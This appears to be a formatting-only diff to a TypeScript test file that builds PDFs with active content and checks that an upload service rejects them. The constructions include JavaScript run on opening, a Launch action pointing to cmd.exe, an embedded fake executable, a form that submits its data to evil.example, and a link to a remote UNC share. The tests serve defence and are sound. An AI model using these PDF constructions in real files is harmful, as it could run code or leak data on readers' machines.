@@ -29,27 +29,88 @@ function objectStreamPdf(catalog: string): Buffer {
   const header = "2 0 ";
   const packed = zlib.deflateSync(Buffer.from(header + catalog, "latin1"));
   return Buffer.concat([
-    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First ${header.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`, "latin1"),
+    Buffer.from(
+      `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First ${header.length}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`,
+      "latin1",
+    ),
     packed,
-    Buffer.from("\nendstream\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 2 0 R/Size 4>>\n%%EOF\n", "latin1"),
+    Buffer.from(
+      "\nendstream\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 2 0 R/Size 4>>\n%%EOF\n",
+      "latin1",
+    ),
   ]);
 }
 
-const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.obj(entries as never) as unknown as PDFDict;
+const action = (doc: PDFDocument, entries: Record<string, unknown>) =>
+  doc.context.obj(entries as never) as unknown as PDFDict;
 
 const ACTIVE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
-  ["JavaScript run on opening (/OpenAction /S /JavaScript /JS)", (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") }))],
+  [
+    "JavaScript run on opening (/OpenAction /S /JavaScript /JS)",
+    (doc) =>
+      doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "JavaScript", JS: PDFString.of("app.alert(1)") })),
+  ],
   [
     "document-level JavaScript (/Names /JavaScript)",
-    (doc) => doc.catalog.set(PDFName.of("Names"), action(doc, { JavaScript: action(doc, { Names: [PDFString.of("x"), action(doc, { S: "JavaScript", JS: PDFString.of("1") })] }) })),
+    (doc) =>
+      doc.catalog.set(
+        PDFName.of("Names"),
+        action(doc, {
+          JavaScript: action(doc, {
+            Names: [PDFString.of("x"), action(doc, { S: "JavaScript", JS: PDFString.of("1") })],
+          }),
+        }),
+      ),
   ],
-  ["a Launch action", (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "Launch", F: PDFString.of("cmd.exe") }))],
-  ["an embedded file (/EmbeddedFiles, /EmbeddedFile)", async (doc) => doc.attach(Buffer.from("MZ not really a program"), "tool.exe", { mimeType: "application/octet-stream" })],
-  ["a page's additional action (/AA) running JavaScript", (doc) => doc.getPage(0).node.set(PDFName.of("AA"), action(doc, { O: action(doc, { S: "JavaScript", JS: PDFHexString.fromText("1") }) }))],
-  ["a form that submits its data (/SubmitForm)", (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") }))],
-  ["an XFA form (/XFA)", (doc) => doc.catalog.set(PDFName.of("AcroForm"), action(doc, { Fields: [], XFA: PDFString.of("<xdp/>") }))],
-  ["a RichMedia annotation", (doc) => doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([action(doc, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })]))],
-  ["a link that opens another file (/GoToR)", (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "GoToR", F: PDFString.of("\\\\host\\share\\x.pdf"), D: [0, "Fit"] }))],
+  [
+    "a Launch action",
+    (doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "Launch", F: PDFString.of("cmd.exe") })),
+  ],
+  [
+    "an embedded file (/EmbeddedFiles, /EmbeddedFile)",
+    async (doc) =>
+      doc.attach(Buffer.from("MZ not really a program"), "tool.exe", { mimeType: "application/octet-stream" }),
+  ],
+  [
+    "a page's additional action (/AA) running JavaScript",
+    (doc) =>
+      doc
+        .getPage(0)
+        .node.set(
+          PDFName.of("AA"),
+          action(doc, { O: action(doc, { S: "JavaScript", JS: PDFHexString.fromText("1") }) }),
+        ),
+  ],
+  [
+    "a form that submits its data (/SubmitForm)",
+    (doc) =>
+      doc.catalog.set(
+        PDFName.of("OpenAction"),
+        action(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") }),
+      ),
+  ],
+  [
+    "an XFA form (/XFA)",
+    (doc) => doc.catalog.set(PDFName.of("AcroForm"), action(doc, { Fields: [], XFA: PDFString.of("<xdp/>") })),
+  ],
+  [
+    "a RichMedia annotation",
+    (doc) =>
+      doc
+        .getPage(0)
+        .node.set(
+          PDFName.of("Annots"),
+          doc.context.obj([action(doc, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })]),
+        ),
+  ],
+  [
+    "a link that opens another file (/GoToR)",
+    (doc) =>
+      doc.catalog.set(
+        PDFName.of("OpenAction"),
+        action(doc, { S: "GoToR", F: PDFString.of("\\\\host\\share\\x.pdf"), D: [0, "Fit"] }),
+      ),
+  ],
 ];
 
 describe("PDFs with active content", () => {
@@ -117,7 +178,12 @@ describe("PDFs with active content", () => {
     expect((await upload(await makePdf(() => undefined))).statusCode).toBe(201);
     expect((await upload(pdfBytes(5000))).statusCode).toBe(201);
     // A link to a web page (/URI) is not active content.
-    const link = await makePdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") })));
+    const link = await makePdf((doc) =>
+      doc.catalog.set(
+        PDFName.of("OpenAction"),
+        action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") }),
+      ),
+    );
     expect((await upload(link)).statusCode).toBe(201);
   });
 });
